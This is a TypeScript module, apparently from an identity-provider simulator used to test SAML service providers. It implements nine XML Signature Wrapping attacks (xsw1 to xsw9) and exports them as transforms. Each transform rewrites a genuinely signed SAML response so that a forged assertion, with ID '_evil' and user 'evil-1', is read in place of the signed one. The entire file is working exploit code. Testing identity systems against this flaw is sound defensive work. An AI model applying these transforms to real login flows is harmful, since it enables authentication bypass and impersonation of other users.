import { parse, serialise } from '@holdfast/idp-simulator';
import type { Document, Element } from '@xmldom/xmldom';

/**
 * Signature wrapping: the signed element stays somewhere in the message, so that its signature holds, and a forged one
 * stands where it is read. Names as in "On Breaking SAML" (USENIX Security 2012) and the tools after it.
 */
const first = (document: Document, name: string): Element | undefined =>
  document.getElementsByTagNameNS('*', name)[0];

const only = (document: Document, name: string): Element => {
  const found = first(document, name);
  if (!found) throw new Error(`The message has no ${name}.`);
  return found;
};

const copy = <T extends Element | Document>(node: T): T => node.cloneNode(true) as T;

const directSignature = (element: Element): Element | undefined =>
  Array.from(element.childNodes).find((node): node is Element => (node as Element).localName === 'Signature');

const withoutSignature = (element: Element): Element => {
  const signature = directSignature(element);
  if (signature) element.removeChild(signature);
  return element;
};

/** The same with another id and another name in it: what the attacker wants to be believed. */
const forged = (element: Element): Element => {
  const evil = withoutSignature(copy(element));
  evil.setAttribute('ID', '_evil');
  const nameId = evil.getElementsByTagNameNS('*', 'NameID')[0];
  if (nameId) nameId.textContent = 'evil-1';
  return evil;
};

const wrap = (document: Document, name: string, within: Element): Element => {
  const holder = document.createElementNS(within.namespaceURI, name);
  return holder;
};

type Wrapping = (document: Document) => void;

const responseSignature = (document: Document): Element | undefined =>
  directSignature(document.documentElement as Element);

/** Replaces the root by a forged one that carries the signed one inside its signature. */
const xsw1: Wrapping = (document) => {
  const root = document.documentElement as Element;
  const signature = responseSignature(document);
  if (!signature) return assertionInside(document);
  const evil = forged(root);
  const original = copy(root);
  withoutSignature(original);
  const kept = copy(signature);
  kept.appendChild(original);
  evil.insertBefore(kept, evil.childNodes[1] ?? null);
  document.replaceChild(evil, root);
};

const assertionInside: Wrapping = (document) => {
  const assertion = only(document, 'Assertion');
  const evil = forged(assertion);
  const signature = directSignature(assertion);
  if (signature) {
    const kept = copy(signature);
    kept.appendChild(withoutSignature(copy(assertion)));
    evil.appendChild(kept);
  } else evil.appendChild(copy(assertion));
  (assertion.parentNode as Element).replaceChild(evil, assertion);
};

/** The signed root detached beside its signature. */
const xsw2: Wrapping = (document) => {
  const root = document.documentElement as Element;
  const signature = responseSignature(document);
  if (!signature) return assertionInside(document);
  const evil = forged(root);
  evil.insertBefore(withoutSignature(copy(root)), evil.childNodes[1] ?? null);
  evil.insertBefore(copy(signature), evil.childNodes[2] ?? null);
  document.replaceChild(evil, root);
};

const xsw3: Wrapping = (document) => {
  const assertion = only(document, 'Assertion');
  (assertion.parentNode as Element).insertBefore(forged(assertion), assertion);
};

const xsw4: Wrapping = (document) => {
  const assertion = only(document, 'Assertion');
  const evil = forged(assertion);
  (assertion.parentNode as Element).replaceChild(evil, assertion);
  evil.appendChild(assertion);
};

const xsw5: Wrapping = (document) => {
  const assertion = only(document, 'Assertion');
  const original = withoutSignature(copy(assertion));
  assertion.setAttribute('ID', '_evil');
  only(document, 'NameID').textContent = 'evil-1';
  (assertion.parentNode as Element).appendChild(original);
};

const xsw6: Wrapping = (document) => {
  const assertion = only(document, 'Assertion');
  const original = withoutSignature(copy(assertion));
  assertion.setAttribute('ID', '_evil');
  only(document, 'NameID').textContent = 'evil-1';
  (directSignature(assertion) ?? assertion).appendChild(original);
};

const xsw7: Wrapping = (document) => {
  const assertion = only(document, 'Assertion');
  const holder = wrap(document, 'samlp:Extensions', document.documentElement as Element);
  holder.appendChild(forged(assertion));
  (assertion.parentNode as Element).insertBefore(holder, assertion);
};

const xsw8: Wrapping = (document) => {
  const assertion = only(document, 'Assertion');
  const original = withoutSignature(copy(assertion));
  const signature = directSignature(assertion) ?? responseSignature(document) ?? assertion;
  const holder = document.createElementNS('http://www.w3.org/2000/09/xmldsig#', 'ds:Object');
  holder.appendChild(original);
  signature.appendChild(holder);
  assertion.setAttribute('ID', '_evil');
  only(document, 'NameID').textContent = 'evil-1';
};

/** The whole signed response inside a forged one. */
const xsw9: Wrapping = (document) => {
  const root = document.documentElement as Element;
  const evil = forged(root);
  const holder = wrap(document, 'samlp:Extensions', root);
  holder.appendChild(copy(root));
  evil.insertBefore(holder, evil.childNodes[1] ?? null);
  document.replaceChild(evil, root);
};

/** Rearranges a signed response by each of them. */
export const WRAPPINGS: Readonly<Record<string, (xml: string) => string>> = Object.fromEntries(
  Object.entries({ xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8, xsw9 }).map(([name, attack]) => [
    name,
    (xml: string): string => {
      const document = parse(xml);
      attack(document);
      return serialise(document);
    },
  ]),
);
